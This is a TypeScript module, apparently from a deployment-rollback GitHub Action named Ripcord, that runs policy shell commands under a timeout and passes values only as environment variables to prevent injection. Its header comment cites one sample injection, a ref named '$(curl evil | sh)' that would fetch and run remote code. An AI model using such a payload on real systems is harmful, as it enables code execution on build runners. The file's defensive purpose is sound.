/**
 * The `command` rollback step: a shell command from the policy (`helm rollback chat-api`,
 * `kubectl rollout undo deploy/chat-api`), run with bash the way a workflow `run:` step is
 * (`bash --noprofile --norc -eo pipefail`).
 *
 * Every value Ripcord knows (target ref and sha, environment, incident, reason...) reaches the
 * command only as an environment variable (`RIPCORD_TARGET_REF`...); nothing is ever spliced
 * into the command text, so a ref named `$(curl evil | sh)` is just a string to the shell.
 * Write `"$RIPCORD_TARGET_REF"` in the command.
 *
 * The time limit is enforced by coreutils `timeout`, which signals the command's whole process
 * group (TERM, then KILL a few seconds later), so a `sleep` in a pipeline cannot outlive it.
 */
import { getExecOutput, type ExecOptions, type ExecOutput } from '@actions/exec';
import { formatDuration } from '../../policy/duration.ts';
import { ConfigurationError, toError } from '../../shared/errors.ts';
import type { Logger } from '../../shared/logger.ts';
import type { TemplateValue } from '../template.ts';

/** What a rollback step knows about the rollback it is part of. */
export interface StepContext {
  environment: string;
  /** The known-good version being restored. */
  targetRef?: string;
  targetSha?: string;
  /**
   * The known-good deployment's tag and version, from its payload (`tag`, `version`, or the
   * name Ripcord recorded for a rollback deployment); the ref when the payload has none.
   */
  targetTag?: string;
  targetVersion?: string;
  /** The bad version being rolled back. */
  fromRef?: string;
  fromSha?: string;
  incident?: number;
  reason?: string;
  strategy?: string;
  /** Rollout percentage for gradual steps and staged recovery. */
  percent?: number;
  repository?: string;
  runUrl?: string;
}

/** The context's fields as `RIPCORD_*` variable names and `{{placeholder}}` names. */
const FIELDS: readonly [keyof StepContext, string, string][] = [
  ['environment', 'RIPCORD_ENVIRONMENT', 'environment'],
  ['targetRef', 'RIPCORD_TARGET_REF', 'target_ref'],
  ['targetSha', 'RIPCORD_TARGET_SHA', 'target_sha'],
  ['targetTag', 'RIPCORD_TARGET_TAG', 'target_tag'],
  ['targetVersion', 'RIPCORD_TARGET_VERSION', 'target_version'],
  ['fromRef', 'RIPCORD_FROM_REF', 'from_ref'],
  ['fromSha', 'RIPCORD_FROM_SHA', 'from_sha'],
  ['incident', 'RIPCORD_INCIDENT', 'incident'],
  ['reason', 'RIPCORD_REASON', 'reason'],
  ['strategy', 'RIPCORD_STRATEGY', 'strategy'],
  ['percent', 'RIPCORD_PERCENT', 'percent'],
  ['repository', 'RIPCORD_REPOSITORY', 'repository'],
  ['runUrl', 'RIPCORD_RUN_URL', 'run_url'],
];

/** The placeholders http steps may use; each is always defined (empty when unknown). */
export const STEP_PLACEHOLDERS: readonly string[] = FIELDS.map(([, , placeholder]) => placeholder);

/** The environment variables a command step gets; unknown fields are left out, not empty. */
export function ripcordEnv(context: StepContext): Record<string, string> {
  const env: Record<string, string> = {};
  for (const [field, name] of FIELDS) {
    const value = context[field];
    if (value !== undefined) env[name] = String(value);
  }
  return env;
}

/** The values for `{{placeholders}}` in http steps. */
export function stepValues(context: StepContext): Record<string, TemplateValue> {
  const values: Record<string, TemplateValue> = {};
  for (const [field, , placeholder] of FIELDS) {
    values[placeholder] = context[field] ?? '';
  }
  return values;
}

export type ExecFn = (
  commandLine: string,
  args?: string[],
  options?: ExecOptions,
) => Promise<ExecOutput>;

export interface CommandStepOptions {
  /** Shell text from the policy. Values go in `env`, never in here. */
  command: string;
  /** Added to the runner's environment; build it with ripcordEnv(). */
  env: Record<string, string>;
  timeoutMs: number;
  cwd?: string;
  logger: Logger;
  /** @actions/exec's getExecOutput; replaced in tests. */
  exec?: ExecFn;
  /** Grace between TERM and KILL on timeout; 5 s when omitted. */
  killAfterMs?: number;
  /** Characters of output kept in the result; 4000 when omitted. */
  tailChars?: number;
}

export interface CommandStepResult {
  ok: boolean;
  /** null when the command could not be started or did not report an exit. */
  exitCode: number | null;
  timedOut: boolean;
  stdoutTail: string;
  stderrTail: string;
  durationMs: number;
  /** Why it failed, in one sentence; undefined when ok. */
  reason?: string;
}

const ENV_NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;

/** Exit statuses of GNU timeout: 124 after TERM, 128+9 after KILL. */
const TIMEOUT_EXITS = new Set([124, 137]);

export async function runCommandStep(options: CommandStepOptions): Promise<CommandStepResult> {
  const { command, logger } = options;
  if (command.trim() === '') throw new ConfigurationError('a command step has an empty command');
  if (!(options.timeoutMs > 0)) {
    throw new ConfigurationError(
      `a command step needs a positive timeout, not ${options.timeoutMs}`,
    );
  }
  const problems: string[] = [];
  for (const [name, value] of Object.entries(options.env)) {
    if (!ENV_NAME.test(name)) problems.push(`${name}: not a valid environment variable name`);
    if (value.includes('\0')) problems.push(`${name}: the value contains a NUL byte`);
  }
  if (problems.length > 0) {
    throw new ConfigurationError('invalid environment for a command step', problems);
  }

  // The runner's environment minus any RIPCORD_* left over from an earlier step, so the
  // command sees exactly this step's values.
  const env: Record<string, string> = {};
  for (const [name, value] of Object.entries(process.env)) {
    if (value !== undefined && !name.startsWith('RIPCORD_')) env[name] = value;
  }
  Object.assign(env, options.env);

  const killAfterMs = options.killAfterMs ?? 5_000;
  const tailChars = options.tailChars ?? 4_000;
  const exec = options.exec ?? getExecOutput;
  const seconds = (ms: number): string => `${Math.max(ms, 1) / 1000}s`;
  const args = [
    `--kill-after=${seconds(killAfterMs)}`,
    seconds(options.timeoutMs),
    'bash',
    '--noprofile',
    '--norc',
    '-eo',
    'pipefail',
    '-c',
    command,
  ];

  const started = performance.now();
  const elapsed = (): number => Math.round(performance.now() - started);
  const limit = formatDuration(options.timeoutMs);
  logger.info(`running command (time limit ${limit}): ${command}`);

  let output: ExecOutput;
  // Last resort should `timeout` itself hang: report the step as failed rather than wait forever.
  let guard: NodeJS.Timeout | undefined;
  const hung = new Promise<'hung'>((resolve) => {
    guard = setTimeout(() => resolve('hung'), options.timeoutMs + killAfterMs + 10_000);
  });
  try {
    const outcome = await Promise.race([
      exec('timeout', args, {
        cwd: options.cwd,
        env,
        silent: true,
        ignoreReturnCode: true,
        listeners: {
          stdline: (line) => logger.info(`  ${line}`),
          errline: (line) => logger.info(`  ${line}`),
        },
      }),
      hung,
    ]);
    if (outcome === 'hung') {
      return {
        ok: false,
        exitCode: null,
        timedOut: true,
        stdoutTail: '',
        stderrTail: '',
        durationMs: elapsed(),
        reason: `command did not exit within ${limit} and could not be stopped`,
      };
    }
    output = outcome;
  } catch (thrown) {
    const message = toError(thrown).message;
    const reason = /Unable to locate executable file: timeout/.test(message)
      ? 'coreutils `timeout` is not installed on this runner (it is on every Linux runner; on macOS: brew install coreutils)'
      : `command could not be started: ${message}`;
    return {
      ok: false,
      exitCode: null,
      timedOut: false,
      stdoutTail: '',
      stderrTail: '',
      durationMs: elapsed(),
      reason,
    };
  } finally {
    clearTimeout(guard);
  }

  const durationMs = elapsed();
  const stdoutTail = tail(output.stdout, tailChars);
  const stderrTail = tail(output.stderr, tailChars);
  // @actions/exec reports a process killed by a signal with a null code, despite its types:
  // that is what happens when `timeout` escalates to KILL, which takes down its own group.
  const exitCode: number | null = Number.isInteger(output.exitCode) ? output.exitCode : null;
  // A command may exit 124 by itself: only a run that lasted the whole limit was cut off.
  const timedOut =
    (exitCode === null || TIMEOUT_EXITS.has(exitCode)) && durationMs >= options.timeoutMs - 50;
  const fail = (reason: string): CommandStepResult => {
    logger.error(reason);
    return { ok: false, exitCode, timedOut, stdoutTail, stderrTail, durationMs, reason };
  };
  if (timedOut) return fail(`command timed out after ${limit} and was stopped`);
  if (exitCode === null) return fail('command was killed by a signal');
  if (exitCode !== 0) {
    const lastLine = stderrTail.trim().split('\n').pop() ?? '';
    return fail(`command exited with code ${exitCode}${lastLine ? `: ${lastLine}` : ''}`);
  }
  logger.info(`command succeeded in ${formatDuration(durationMs)}`);
  return { ok: true, exitCode: 0, timedOut: false, stdoutTail, stderrTail, durationMs };
}

function tail(text: string, max: number): string {
  return text.length > max ? `...${text.slice(-max)}` : text;
}
